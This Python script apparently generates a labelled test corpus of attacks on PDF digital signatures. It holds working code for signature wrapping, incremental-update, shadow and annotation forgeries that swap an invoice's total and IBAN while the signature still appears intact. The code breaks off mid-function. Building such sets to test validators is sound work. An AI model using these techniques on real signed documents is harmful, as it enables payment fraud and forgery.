#!/usr/bin/python3
"""Build the held-out PDF signature ATTACK set.

Run with Debian's python (reportlab is needed):   /usr/bin/python3 make_heldout.py [outdir]

Everything is made from scratch on every run:
  * a self-made CA + two signer certificates (openssl) loaded into a throw-away NSS db
    (certutil / pk12util),
  * a two-page invoice drawn with reportlab (uncompressed content streams), re-serialised
    by this script into a clean classic-xref PDF with an AcroForm,
  * signatures made by Poppler's `pdfsig -add-signature` / `pdfsig -sign`
    (invisible adbe.pkcs7.detached, SHA-256),
  * attacks made by byte-level editing (incremental updates with exact xref offsets,
    same-length in-place edits of the signature dictionary, relocation of signed bytes).

Then every file is checked with `qpdf --check`, `pdftotext` and `pdfsig`, and README.md /
MANIFEST.tsv are (re)written with those readings.
"""
import os
import re
import shutil
import subprocess
import sys
import tempfile
import io

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else HERE

ORIG_TOTAL = "Total due: EUR 1,250.00"
FAKE_TOTAL = "Total due: EUR 9,850.00"
ORIG_IBAN = "IBAN: FR76 3000 6000 0112 3456 7890 189"
FAKE_IBAN = "IBAN: LT12 1000 0111 0100 1000 666"


def run(cmd, check=True, **kw):
    r = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kw)
    if check and r.returncode != 0:
        raise RuntimeError("%s failed (%d):\n%s\n%s" % (cmd, r.returncode,
                           r.stdout.decode('latin1'), r.stderr.decode('latin1')))
    return r


# ---------------------------------------------------------------------------------------
# Minimal PDF toolkit (classic xref tables only; enough for the files made here)
# ---------------------------------------------------------------------------------------

def last_startxref(data):
    i = data.rfind(b'startxref')
    m = re.match(rb'startxref\s+(\d+)', data[i:])
    return int(m.group(1))


def parse_xref_chain(data):
    """Return (offsets{num: (off, gen)}, newest trailer dict bytes). Newest entry wins."""
    offsets = {}
    trailers = []
    pos = last_startxref(data)
    seen = set()
    while pos is not None and pos not in seen:
        seen.add(pos)
        m = re.match(rb'xref\s*', data[pos:])
        assert m, "no xref table at %d" % pos
        p = pos + m.end()
        while True:
            m = re.match(rb'(\d+) (\d+)\s*\r?\n', data[p:])
            if not m:
                break
            start, count = int(m.group(1)), int(m.group(2))
            p += m.end()
            for k in range(count):
                ent = data[p:p + 20]
                off, gen, typ = int(ent[0:10]), int(ent[11:16]), ent[17:18]
                if (start + k) not in offsets:
                    offsets[start + k] = (off, gen) if typ == b'n' else None
                p += 20
        m = re.match(rb'\s*trailer\s*', data[p:])
        assert m
        p += m.end()
        tr = read_dict(data, p)
        trailers.append(tr)
        pm = re.search(rb'/Prev\s+(\d+)', tr)
        pos = int(pm.group(1)) if pm else None
    return {k: v for k, v in offsets.items() if v}, trailers[0]


def read_dict(data, p):
    """Bytes of the << ... >> dictionary starting at p (handles nesting, strings)."""
    assert data[p:p + 2] == b'<<', data[p:p + 20]
    depth = 0
    i = p
    while i < len(data):
        c = data[i:i + 1]
        if data[i:i + 2] == b'<<':
            depth += 1
            i += 2
            continue
        if data[i:i + 2] == b'>>':
            depth -= 1
            i += 2
            if depth == 0:
                return data[p:i]
            continue
        if c == b'(':
            lvl = 0
            while True:
                c = data[i:i + 1]
                if c == b'\\':
                    i += 2
                    continue
                if c == b'(':
                    lvl += 1
                elif c == b')':
                    lvl -= 1
                    if lvl == 0:
                        break
                i += 1
        i += 1
    raise ValueError("unterminated dict")


def get_obj(data, num):
    """Current body (between 'N G obj' and 'endobj') of object num."""
    offs, _ = parse_xref_chain(data)
    off, gen = offs[num]
    m = re.match(rb'(\d+)\s+(\d+)\s+obj\s*', data[off:])
    assert m and int(m.group(1)) == num, (num, data[off:off + 30])
    start = off + m.end()
    end = data.find(b'endobj', start)
    return data[start:end].rstrip()


def trailer_value(data, key):
    _, tr = parse_xref_chain(data)
    m = re.search(rb'/' + key.encode() + rb'\s+(\d+ \d+ R|\d+)', tr)
    return m.group(1) if m else None


def root_num(data):
    return int(trailer_value(data, 'Root').split()[0])


def size_of(data):
    return int(trailer_value(data, 'Size'))


def ref_of(body, key):
    m = re.search(rb'/' + key.encode() + rb'\s+(\d+) 0 R', body)
    return int(m.group(1)) if m else None


def stream_obj(content, extra=b''):
    return b'<< /Length %d %s>>\nstream\n' % (len(content), extra) + content + b'\nendstream'


def xref_table(entries):
    """entries: {num: offset}; writes subsections of consecutive numbers (+ entry 0)."""
    nums = sorted(entries)
    out = bytearray(b'xref\n0 1\n0000000000 65535 f \n')
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        out += b'%d %d\n' % (nums[i], j - i + 1)
        for n in nums[i:j + 1]:
            off, gen = entries[n] if isinstance(entries[n], tuple) else (entries[n], 0)
            out += b'%010d %05d n \n' % (off, gen)
        i = j + 1
    return bytes(out)


def incremental_update(data, objs, with_xref=True, size=None, tail=b''):
    """Append objs {num: body} as a standard incremental update (exact xref offsets)."""
    out = bytearray(data)
    if not out.endswith(b'\n'):
        out += b'\n'
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
    if with_xref:
        prev = last_startxref(data)
        if size is None:
            size = max(size_of(data), max(objs) + 1)
        x = len(out)
        out += xref_table(offs)
        out += b'trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (
            size, root_num(data), prev, x)
    out += tail
    return bytes(out)


def write_full_pdf(objs, root, info=None):
    out = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
    x = len(out)
    size = max(objs) + 1
    out += b'xref\n0 %d\n0000000000 65535 f \n' % size
    for n in range(1, size):
        out += b'%010d 00000 n \n' % offs[n]
    out += b'trailer\n<< /Size %d /Root %d 0 R%s /ID [<48454c444f55542d494e564f49434531><48454c444f55542d494e564f49434531>] >>\n' % (
        size, root, (b' /Info %d 0 R' % info) if info else b'')
    out += b'startxref\n%d\n%%%%EOF\n' % x
    return bytes(out)


def pdf_str(s):
    return s.replace('\\', '\\\\').replace('(', '\\(').replace(')', '\\)').encode('latin1')


# ---------------------------------------------------------------------------------------
# Base documents
# ---------------------------------------------------------------------------------------

def reportlab_invoice():
    from reportlab.pdfgen import canvas
    from reportlab.lib.pagesizes import A4
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4, pageCompression=0, invariant=1)
    c.setTitle("Invoice 2024-017")
    c.setAuthor("Test Supplier SARL")
    # page 1: the invoice. Fonts: Times-Bold title, Helvetica body, Helvetica-Bold ONLY for
    # the total line (so replacing that font object changes only the total).
    c.setFont("Times-Bold", 20)
    c.drawString(72, 770, "INVOICE No. 2024-017")
    c.setFont("Helvetica", 11)
    c.drawString(72, 740, "Supplier: Test Supplier SARL, 1 rue de l'Exemple, 75001 Paris")
    c.drawString(72, 724, "Customer: Example Buyer GmbH, Musterstrasse 5, Berlin")
    c.drawString(72, 700, "Date: 2024-03-31")
    c.drawString(72, 676, "Consulting services, March 2024")
    c.drawString(420, 676, "EUR 1,250.00")
    c.line(72, 668, 523, 668)
    c.setFont("Helvetica-Bold", 13)
    c.drawString(72, 650, ORIG_TOTAL)
    c.setFont("Helvetica", 11)
    c.drawString(72, 628, ORIG_IBAN)
    c.drawString(72, 612, "Payment within 30 days. See page 2 for the terms.")
    c.showPage()
    # page 2: terms (used by the page-removal attack)
    c.setFont("Times-Bold", 16)
    c.drawString(72, 770, "Terms and conditions")
    c.setFont("Helvetica", 11)
    c.drawString(72, 740, "1. Late payment interest: 10% per year.")
    c.drawString(72, 724, "2. Any dispute: Tribunal de commerce de Paris.")
    c.drawString(72, 708, "3. This invoice is only valid with the supplier's digital signature.")
    c.showPage()
    c.save()
    return buf.getvalue()


def make_base(hidden_content=None, with_sig_field=None, with_text_field=False):
    """Rewrite reportlab's output into our own object layout.

    hidden_content: bytes of a second, unreferenced definition of page 1's content object
        (same object number, placed BEFORE the real one; shadow attack preparation).
    with_sig_field: None, or (name, rect, appearance-bytes-or-None) for an empty
        signature field on page 1.
    with_text_field: add a filled text field 'amount' (value + appearance) on page 1.
    Returns (pdf bytes, layout dict).
    """
    d = reportlab_invoice()
    objs = {int(m.group(1)): m.group(2) for m in
            re.finditer(rb'(\d+) 0 obj\n(.*?)\nendobj\n', d, re.S)}
    # normalise: find roles
    L = {}
    for n, b in objs.items():
        if b'/Type /Catalog' in b:
            L['catalog'] = n
        elif b'/Type /Pages' in b:
            L['pages'] = n
        elif b'/Type /Page' in b:
            L.setdefault('page_list', []).append(n)
        elif b'/Producer' in b:
            L['info'] = n
        elif b'/BaseFont /Helvetica-Bold' in b:
            L['font_hb'] = n
        elif b'/BaseFont /Helvetica ' in b:
            L['font_h'] = n
    kids = [int(x) for x in re.findall(rb'(\d+) 0 R', re.search(rb'/Kids \[(.*?)\]', objs[L['pages']]).group(1))]
    L['page1'], L['page2'] = kids
    L['content1'] = ref_of(objs[L['page1']], 'Contents')
    L['content2'] = ref_of(objs[L['page2']], 'Contents')
    L['fontres'] = ref_of(objs[L['page1']], 'Font')
    nxt = max(objs) + 1
    # AcroForm with a DR font named popplerfont0 whose BaseFont is "Helvetica " (with the
    # trailing space Poppler 22.12 looks for): otherwise pdfsig embeds a 400 KB system font.
    L['drfont'] = nxt
    objs[nxt] = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica#20 /Encoding /WinAnsiEncoding >>'
    nxt += 1
    L['acroform'] = nxt
    fields = []
    annots = []
    objs[L['catalog']] = objs[L['catalog']].replace(b'/Type /Catalog', b'/Type /Catalog /AcroForm %d 0 R' % nxt)
    nxt += 1
    if with_sig_field:
        name, rect, ap = with_sig_field
        L['sigfield'] = nxt
        apref = b''
        if ap is not None:
            L['sigfield_ap'] = nxt + 1
            objs[nxt + 1] = stream_obj(ap, b'/Type /XObject /Subtype /Form /BBox [0 0 %g %g] /Resources << /Font << /F1 %d 0 R /F2 %d 0 R >> >> '
                                       % (rect[2] - rect[0], rect[3] - rect[1], L['font_h'], L['font_hb']))
            apref = b' /AP << /N %d 0 R >>' % (nxt + 1)
        objs[nxt] = (b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (%s) /F 4 /Rect [%g %g %g %g] /P %d 0 R%s >>'
                     % ((name.encode(),) + tuple(rect) + (L['page1'], apref)))
        fields.append(nxt)
        annots.append(nxt)
        nxt += 2
    if with_text_field:
        L['textfield'] = nxt
        L['textfield_ap'] = nxt + 1
        ap = b'/Tx BMC q BT 0 g /F2 13 Tf 2 5 Td (EUR 1,250.00) Tj ET Q EMC'
        objs[nxt + 1] = stream_obj(ap, b'/Type /XObject /Subtype /Form /BBox [0 0 130 20] /Resources << /Font << /F2 %d 0 R >> >> ' % L['font_hb'])
        objs[nxt] = (b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount_paid) /V (EUR 1,250.00) /DA (/F2 13 Tf 0 g) '
                     b'/F 4 /Ff 1 /Rect [390 590 520 610] /P %d 0 R /AP << /N %d 0 R >> >>' % (L['page1'], nxt + 1))
        fields.append(nxt)
        annots.append(nxt)
        nxt += 2
    objs[L['acroform']] = (b'<< /Fields [%s] /DR << /Font << /popplerfont0 %d 0 R /F1 %d 0 R /F2 %d 0 R >> >> /DA (/popplerfont0 0 Tf 0 g) >>'
                           % (b' '.join(b'%d 0 R' % f for f in fields), L['drfont'], L['font_h'], L['font_hb']))
    if annots:
        objs[L['page1']] = objs[L['page1']].replace(b'/Type /Page', b'/Type /Page /Annots [%s]' % b' '.join(b'%d 0 R' % a for a in annots))
    pdf = write_full_pdf(objs, L['catalog'], L['info'])
    if hidden_content is not None:
        # insert a second "N 0 obj" definition of the page-1 content stream right before
        # the first object, then rebuild the xref (which points to the real one).
        first = pdf.find(b'1 0 obj')
        hidden = b'%d 0 obj\n' % L['content1'] + stream_obj(hidden_content) + b'\nendobj\n'
        objs_offsets = {}
        body = pdf[:first] + hidden + pdf[first:pdf.rfind(b'xref')]
        for m in re.finditer(rb'(?m)^(\d+) 0 obj', body):
            objs_offsets[int(m.group(1))] = m.start()   # later (real) definition wins
        L['hidden_offset'] = first
        size = max(objs) + 1
        x = len(body)
        body += b'xref\n0 %d\n0000000000 65535 f \n' % size
        for n in range(1, size):
            body += b'%010d 00000 n \n' % objs_offsets[n]
        body += (b'trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /ID [<48454c444f55542d494e564f49434531><48454c444f55542d494e564f49434531>] >>\nstartxref\n%d\n%%%%EOF\n'
                 % (size, L['catalog'], L['info'], x))
        pdf = body
    return pdf, L


def content_with(orig_content, replacements):
    c = orig_content
    for a, b in replacements:
        assert a in c, a
        c = c.replace(a, b)
    return c


def stream_data(body):
    i = body.find(b'stream')
    j = i + len(b'stream')
    if body[j:j + 2] == b'\r\n':
        j += 2
    elif body[j:j + 1] == b'\n':
        j += 1
    k = body.rfind(b'endstream')
    return body[j:k].rstrip(b'\r\n')


# ---------------------------------------------------------------------------------------
# PKI + signing
# ---------------------------------------------------------------------------------------

class Signer:
    def __init__(self, work):
        self.work = work
        self.db = 'sql:' + os.path.join(work, 'nssdb')
        os.makedirs(os.path.join(work, 'nssdb'))
        w = lambda f: os.path.join(work, f)
        run(['openssl', 'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', w('ca.key'), '-out', w('ca.crt'),
             '-days', '3650', '-subj', '/CN=Heldout Attack-Set Root CA',
             '-addext', 'basicConstraints=critical,CA:TRUE', '-addext', 'keyUsage=critical,keyCertSign,cRLSign'])
        with open(w('leaf.ext'), 'w') as f:
            f.write('basicConstraints=CA:FALSE\nkeyUsage=critical,digitalSignature,nonRepudiation\n')
        run(['certutil', '-N', '-d', self.db, '--empty-password'])
        for nick, cn in (('signer', 'Heldout Supplier Signer'), ('cosigner', 'Heldout Customer Countersigner')):
            run(['openssl', 'req', '-newkey', 'rsa:2048', '-nodes', '-keyout', w(nick + '.key'), '-out', w(nick + '.csr'),
                 '-subj', '/CN=' + cn])
            run(['openssl', 'x509', '-req', '-in', w(nick + '.csr'), '-CA', w('ca.crt'), '-CAkey', w('ca.key'),
                 '-CAcreateserial', '-out', w(nick + '.crt'), '-days', '825', '-extfile', w('leaf.ext')])
            run(['openssl', 'pkcs12', '-export', '-inkey', w(nick + '.key'), '-in', w(nick + '.crt'), '-certfile', w('ca.crt'),
                 '-name', nick, '-out', w(nick + '.p12'), '-passout', 'pass:secret'])
            run(['pk12util', '-i', w(nick + '.p12'), '-d', self.db, '-W', 'secret'])
        run(['certutil', '-M', '-d', self.db, '-n', 'Heldout Attack-Set Root CA', '-t', 'CT,C,C'])
        self.ca_crt = w('ca.crt')
        self.n = 0

    def sign(self, data, nick='signer', reason='Facture', field=None):
        self.n += 1
        i = os.path.join(self.work, 'in%d.pdf' % self.n)
        o = os.path.join(self.work, 'out%d.pdf' % self.n)
        with open(i, 'wb') as f:
            f.write(data)
        cmd = ['pdfsig', '-nssdir', self.db, '-nick', nick, '-reason', reason]
        cmd += ['-sign', field] if field else ['-add-signature']
        run(cmd + [i, o])
        with open(o, 'rb') as f:
            out = f.read()
        assert out.startswith(data), "pdfsig did not write an incremental update"
        return out


SIG_HEX = 8192 * 2          # placeholder size of /Contents (hex digits)
BR_PLACEHOLDER = b'/ByteRange [0 XXXXXXXXXX XXXXXXXXXX XXXXXXXXXX]'


def sig_value_dict(name, reason):
    return (b'<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Name (%s) /Reason (%s) '
            b'/M (D:20240331120000Z) ' % (pdf_str(name), pdf_str(reason)) + BR_PLACEHOLDER
            + b' /Contents <' + b'0' * SIG_HEX + b'> >>')


def openssl_sign_update(signer, data, objs, nick, size=None):
    """Append objs as an incremental update; one of them must be sig_value_dict(...).
    Fill /ByteRange and /Contents with a detached CMS (openssl cms, SHA-256, signed
    attributes) over everything but the /Contents hex string. Used where pdfsig cannot
    keep a custom widget appearance (pdfsig -sign blanks it)."""
    out = incremental_update(data, objs, size=size)
    i = out.rfind(BR_PLACEHOLDER)
    a = out.rfind(b'/Contents <') + len(b'/Contents ')
    b = out.find(b'>', a) + 1
    assert i > len(data) and a > i and out[a:b] == b'<' + b'0' * SIG_HEX + b'>'
    br = b'/ByteRange [0 %d %d %d]' % (a, b, len(out) - b)
    out = out[:i] + br + b' ' * (len(BR_PLACEHOLDER) - len(br)) + out[i + len(BR_PLACEHOLDER):]
    tbs = os.path.join(signer.work, 'tbs.bin')
    der = os.path.join(signer.work, 'sig.der')
    with open(tbs, 'wb') as f:
        f.write(out[:a] + out[b:])
    w = lambda f: os.path.join(signer.work, f)
    run(['openssl', 'cms', '-sign', '-binary', '-md', 'sha256', '-in', tbs, '-signer', w(nick + '.crt'),
         '-inkey', w(nick + '.key'), '-certfile', w('ca.crt'), '-outform', 'DER', '-out', der])
    with open(der, 'rb') as f:
        hx = f.read().hex().encode()
    assert len(hx) <= SIG_HEX
    out = out[:a + 1] + hx + b'0' * (SIG_HEX - len(hx)) + out[b - 1:]
    return out


def sig_dicts(data):
    """All signature value dictionaries: list of dict(start,end,contents_span,br_span)."""
    res = []
    for m in re.finditer(rb'/Type /Sig\b', data):
        s = data.rfind(b'<<', 0, m.start())
        body = read_dict(data, s)
        c = re.search(rb'/Contents\s*(<[0-9A-Fa-f]*>)', body)
        br = re.search(rb'/ByteRange\s*\[[^\]]*\]', body)
        res.append(dict(start=s, end=s + len(body),
                        contents=(s + c.start(1), s + c.end(1)) if c else None,
                        br=(s + br.start(), s + br.end()) if br else None))
    return res


def same_len_replace(data, span, new):
    a, b = span
    assert len(new) <= b - a, (new, b - a)
    new = new + b' ' * ((b - a) - len(new))
    return data[:a] + new + data[b:]


# ---------------------------------------------------------------------------------------
# Attacks
# ---------------------------------------------------------------------------------------

def build(out):
    work = tempfile.mkdtemp(prefix='heldout-')
    files = {}   # name -> (bytes, status, integrity, family, note)
    try:
        S = Signer(work)
        base, L = make_base()
        page1, pages, content1 = L['page1'], L['pages'], L['content1']
        orig_c1 = stream_data(re.search(rb'%d 0 obj\n(.*?)\nendobj' % content1, base, re.S).group(1))
        assert pdf_str(ORIG_TOTAL) in orig_c1
        evil_c1 = content_with(orig_c1, [(pdf_str(ORIG_TOTAL), pdf_str(FAKE_TOTAL)),
                                         (pdf_str(ORIG_IBAN), pdf_str(FAKE_IBAN))])

        def add(name, data, status, integ, family, note):
            files[name] = (data, status, integ, family, note)

        # ---------------- controls ----------------
        signed = S.sign(base)
        add('ctl_signed_valid.pdf', signed, 'panel', 'valid', 'control',
            'Invoice signed once by pdfsig (invisible adbe.pkcs7.detached, SHA-256). ByteRange covers the whole file.')
        twice = S.sign(signed, nick='cosigner', reason='Countersigned')
        add('ctl_signed_twice_valid.pdf', twice, 'panel', 'valid', 'control',
            'Signed, then a second signer adds an incremental signature with pdfsig. The update only adds a signature '
            '(new widget, AcroForm /Fields and page /Annots extended, poppler also writes two empty gen-1 form XObjects). Both panels valid.')
        uns, Lu = make_base(with_sig_field=('SupplierSignature', (0, 0, 0, 0), None))
        add('ctl_unsigned_empty_sigfield.pdf', uns, 'none', '-', 'control',
            'Never signed: an AcroForm /FT /Sig field (widget on page 1) without /V. Not a signature.')
        # visible signature: empty field with a drawn appearance, then signed with pdfsig -sign
        vis_ap = (b'q 0.93 0.96 1 rg 0 0 220 60 re f 0 0 0.6 RG 1 w 0.5 0.5 219 59 re S Q '
                  b'BT 0 0 0.4 rg /F2 9 Tf 6 46 Td (Digitally signed by) Tj 0 -12 Td (Heldout Supplier Signer) Tj '
                  b'/F1 8 Tf 0 -12 Td (Reason: Facture) Tj 0 -11 Td (Signature field: SupplierSignature) Tj ET')
        visbase, Lv = make_base(with_sig_field=('SupplierSignature', (300, 500, 520, 560), vis_ap))
        fsig = S.sign(visbase, field='SupplierSignature')
        add('ctl_field_signed_pdfsig_valid.pdf', fsig, 'panel', 'valid', 'control',
            'Pre-existing empty signature field "SupplierSignature" (it had a drawn appearance) signed with pdfsig -sign. '
            'Poppler 22.12 replaces the widget appearance by an empty form XObject, so the result looks invisible. Valid.')
        # visible signature made without pdfsig (openssl cms), keeping the drawn appearance
        sz = size_of(visbase)
        wid = get_obj(visbase, Lv['sigfield'])
        af = get_obj(visbase, Lv['acroform'])
        vis = openssl_sign_update(S, visbase, {
            Lv['sigfield']: wid[:-2].rstrip() + b' /V %d 0 R >>' % sz,
            Lv['acroform']: af[:-2].rstrip() + b' /SigFlags 3 >>',
            sz: sig_value_dict('Heldout Supplier Signer', 'Facture')}, 'signer', size=sz + 1)
        add('ctl_visible_signed_openssl_valid.pdf', vis, 'panel', 'valid', 'control',
            'Visible signature: the "SupplierSignature" field (220x60 pt box "Digitally signed by Heldout Supplier Signer") '
            'gets /V in one incremental update; the CMS (adbe.pkcs7.detached, SHA-256, signed attributes) is made with '
            'openssl cms by this script because pdfsig -sign blanks custom appearances. Valid.')

        # ---------------- flattened copies (no signature left) ----------------
        for src, nm in ((vis, 'flattened_visible_pdftocairo.pdf'), (signed, 'flattened_invisible_pdftocairo.pdf')):
            p_in = os.path.join(work, 'flat_in.pdf')
            p_out = os.path.join(work, 'flat_out.pdf')
            with open(p_in, 'wb') as f:
                f.write(src)
            run(['pdftocairo', '-pdf', p_in, p_out])
            with open(p_out, 'rb') as f:
                flat = f.read()
            if 'visible' in nm and 'invisible' not in nm:
                add(nm, flat, 'image|none', '-', 'flattened',
                    'pdftocairo -pdf of ctl_visible_signed_openssl_valid.pdf: the "Digitally signed by" box is now page '
                    'graphics, no AcroForm, no /Sig, no CMS. A picture of a signature, not a signature.')
            else:
                add(nm, flat, 'none', '-', 'flattened',
                    'pdftocairo -pdf of ctl_signed_valid.pdf (invisible signature): nothing signature-like remains.')

        # ---------------- USF: signature dictionary edited in place, same length ----------------
        sd = sig_dicts(signed)[-1]
        a, b = sd['contents']
        L_ = len(signed)
        br = sd['br']
        add('usf_byterange_missing.pdf', same_len_replace(signed, br, b''), 'panel', 'invalid|modified-after-signing', 'USF',
            '/ByteRange key blanked out (replaced by spaces, same length so xref stays exact). /V signature dictionary still present.')
        add('usf_byterange_null.pdf', same_len_replace(signed, br, b'/ByteRange null'), 'panel', 'invalid|modified-after-signing', 'USF',
            '/ByteRange null.')
        add('usf_byterange_empty_array.pdf', same_len_replace(signed, br, b'/ByteRange []'), 'panel', 'invalid|modified-after-signing', 'USF',
            '/ByteRange [] (empty array).')
        add('usf_byterange_three_numbers.pdf', same_len_replace(signed, br, b'/ByteRange [0 %d %d]' % (a, b)), 'panel',
            'invalid|modified-after-signing', 'USF', 'ByteRange with 3 integers [0 a b] (length of the second range missing).')
        add('usf_byterange_negative.pdf', same_len_replace(signed, br, b'/ByteRange [0 %d -%d %d]' % (a, b, L_ - b)), 'panel',
            'invalid|modified-after-signing', 'USF', 'ByteRange [0 a -b c]: negative offset.')
        add('usf_contents_zeros.pdf', same_len_replace(signed, (a + 1, b - 1), b'0' * (b - a - 2)), 'panel',
            'invalid|modified-after-signing', 'USF',
            '/Contents hex string overwritten with zeros (same length); ByteRange untouched and well formed. No CMS to verify.')
        # /Contents <> and a ByteRange rewritten so that it is formally well formed around the 2-byte string
        x = same_len_replace(signed, (a, b), b'<>')
        x = same_len_replace(x, br, b'/ByteRange [0 %d %d %d]' % (a, a + 2, L_ - (a + 2)))
        add('usf_contents_empty.pdf', x, 'panel', 'invalid|modified-after-signing', 'USF',
            '/Contents <> (empty) followed by blanks; ByteRange rewritten to [0 a a+2 rest] so the gap is exactly the empty string '
            'and the ranges cover the file: formally well formed, but there is no CMS at all.')

        # ---------------- ISA ----------------
        evil_stream = stream_obj(evil_c1)
        isa1 = incremental_update(signed, {content1: evil_stream})
        add('isa_content_replaced.pdf', isa1, 'panel', 'invalid|modified-after-signing', 'ISA',
            'Incremental update (proper xref + trailer /Prev) redefines the page-1 content stream object: total 9,850.00 and another IBAN.')
        # stripped xref/trailer: objects then a bare %%EOF. Padding (a comment inside the
        # stream) pushes the signed revision's startxref out of the last 1024 bytes, so a
        # reader that looks for startxref near the end finds none and reconstructs the xref
        # by scanning: the later definition then wins.
        pad = b'\n' + b'%' + b' padding' * 160 + b'\n'
        isa2 = incremental_update(signed, {content1: stream_obj(evil_c1 + pad)}, with_xref=False, tail=b'%%EOF\n')
        add('isa_no_xref_trailer.pdf', isa2, 'panel', 'invalid|modified-after-signing', 'ISA',
            'ISA variant: the update holds only the redefined content object followed by a second %%EOF, no xref, no trailer, no startxref. '
            'qpdf rebuilds the xref and shows the fake total; Poppler 22.12 still follows the old startxref and shows 1,250.00.')
        # new stream + page /Contents retargeted + trailer with updated /Size and /Prev
        sz = size_of(signed)
        page1_body = get_obj(signed, page1)
        new_page1 = re.sub(rb'/Contents \d+ 0 R', b'/Contents %d 0 R' % sz, page1_body)
        isa3 = incremental_update(signed, {page1: new_page1, sz: evil_stream}, size=sz + 1)
        add('isa_contents_ref_and_trailer.pdf', isa3, 'panel', 'invalid|modified-after-signing', 'ISA',
            'Update adds a NEW content stream object (number = old /Size), rewrites the page object so /Contents points to it, '
            'and writes a trailer with /Size+1 and /Prev = previous startxref: a perfectly normal-looking revision.')

        # ---------------- SWA ----------------
        add('swa_relocated_second_range.pdf', swa(signed, content1, evil_c1), 'panel', 'invalid|modified-after-signing', 'SWA',
            'Signature Wrapping: the signed bytes after /Contents are moved to the end of the file; /ByteRange [0 a b\' c] is rewritten '
            '(same length) to point at the relocated copy; the freed space holds a new xref table exactly at the old startxref offset '
            'and the malicious content object. Both ranges hash to the signed value and still end at EOF, but the gap is no longer '
            'just the /Contents string.')

        # ---------------- Shadow attacks ----------------
        shbase, Ls = make_base(hidden_content=evil_c1)
        shsigned = S.sign(shbase)
        add('shadow_prepared_signed_valid.pdf', shsigned, 'panel', 'valid', 'shadow-control',
            'The shadow document as signed: it contains, before the real one, a second unreferenced definition of the page-1 '
            'content object (fake total). The xref points to the real one, the signature covers the whole file and the shown '
            'total is 1,250.00. Per the ByteRange/digest rules this is valid (a checker may add a warning).')
        prev = last_startxref(shsigned)
        x = len(shsigned)
        upd = (b'xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n' % (Ls['content1'], Ls['hidden_offset'])
               + b'trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (size_of(shsigned), root_num(shsigned), prev, x))
        add('shadow_hide_xref_only.pdf', shsigned + upd, 'panel', 'invalid|modified-after-signing', 'shadow-hide-and-replace',
            'Shadow hide-and-replace: the update adds NO object, only an xref section that points the page-1 content object '
            'number to the hidden definition that lies INSIDE the signed range. Every signed byte is intact; the shown total is 9,850.00.')
        # replace a font object: Helvetica-Bold (used only for the total line) gets an
        # /Encoding /Differences that draws code '1' as glyph nine and '2' as glyph eight.
        font_hb = get_obj(signed, L['font_hb'])
        new_font = (b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Name /F2 /Encoding << /Type /Encoding '
                    b'/BaseEncoding /WinAnsiEncoding /Differences [49 /nine 50 /eight] >> >>')
        assert b'Helvetica-Bold' in font_hb
        add('shadow_replace_font.pdf', incremental_update(signed, {L['font_hb']: new_font}), 'panel', 'invalid|modified-after-signing',
            'shadow-replace',
            'Update replaces only the Helvetica-Bold font object (used by the total line) with one whose /Differences map '
            'codes "1"->/nine and "2"->/eight: the unchanged content stream now shows "EUR 9,850.00". No content stream touched.')
        fbase, Lf = make_base(with_text_field=True)
        fsigned = S.sign(fbase)
        tf = get_obj(fsigned, Lf['textfield'])
        new_tf = tf.replace(b'/V (EUR 1,250.00)', b'/V (EUR 9,850.00)')
        new_ap = stream_obj(b'/Tx BMC q BT 0 g /F2 13 Tf 2 5 Td (EUR 9,850.00) Tj ET Q EMC',
                            b'/Type /XObject /Subtype /Form /BBox [0 0 130 20] /Resources << /Font << /F2 %d 0 R >> >> ' % Lf['font_hb'])
        assert new_tf != tf
        add('shadow_replace_form_value.pdf', incremental_update(fsigned, {Lf['textfield']: new_tf, Lf['textfield_ap']: new_ap}),
            'panel', 'invalid|modified-after-signing', 'shadow-replace',
            'Invoice with a filled text field "amount_paid" (EUR 1,250.00) signed; the update replaces the field value /V and '
            'its appearance stream object by EUR 9,850.00. A form fill after signing on an uncertified document.')
        add('ctl_form_signed_valid.pdf', fsigned, 'panel', 'valid', 'control',
            'The signed form document that shadow_replace_form_value.pdf starts from (text field + signature). Valid.')

        # ---------------- evil annotation ----------------
        sz = size_of(signed)
        ap = (b'q 1 1 1 rg 0 0 260 22 re f Q BT 0 g /F2 13 Tf 2 6 Td (%s) Tj ET' % pdf_str(FAKE_TOTAL))
        annot = (b'<< /Type /Annot /Subtype /FreeText /Rect [70 645 330 667] /Contents (%s) /DA (/F2 13 Tf 0 g) /F 4 '
                 b'/Border [0 0 0] /P %d 0 R /AP << /N %d 0 R >> >>' % (pdf_str(FAKE_TOTAL), page1, sz + 1))
        apobj = stream_obj(ap, b'/Type /XObject /Subtype /Form /BBox [0 0 260 22] /Resources << /Font << /F2 %d 0 R >> >> ' % L['font_hb'])
        objs = add_to_annots(signed, page1, sz)
        objs[sz] = annot
        objs[sz + 1] = apobj
        add('evil_annotation_freetext.pdf', incremental_update(signed, objs, size=sz + 2), 'panel', 'invalid|modified-after-signing',
            'evil-annotation',
            'Update adds a FreeText annotation (white box + "Total due: EUR 9,850.00" appearance) exactly over the total; page '
            '/Annots extended. Content stream untouched.')

        # ---------------- sneaky signature ----------------
        sz = size_of(signed)
        sneaky_ap = (b'q 1 1 1 rg 0 0 260 22 re f Q BT 0 g /F2 13 Tf 2 6 Td (%s) Tj ET' % pdf_str(FAKE_TOTAL))
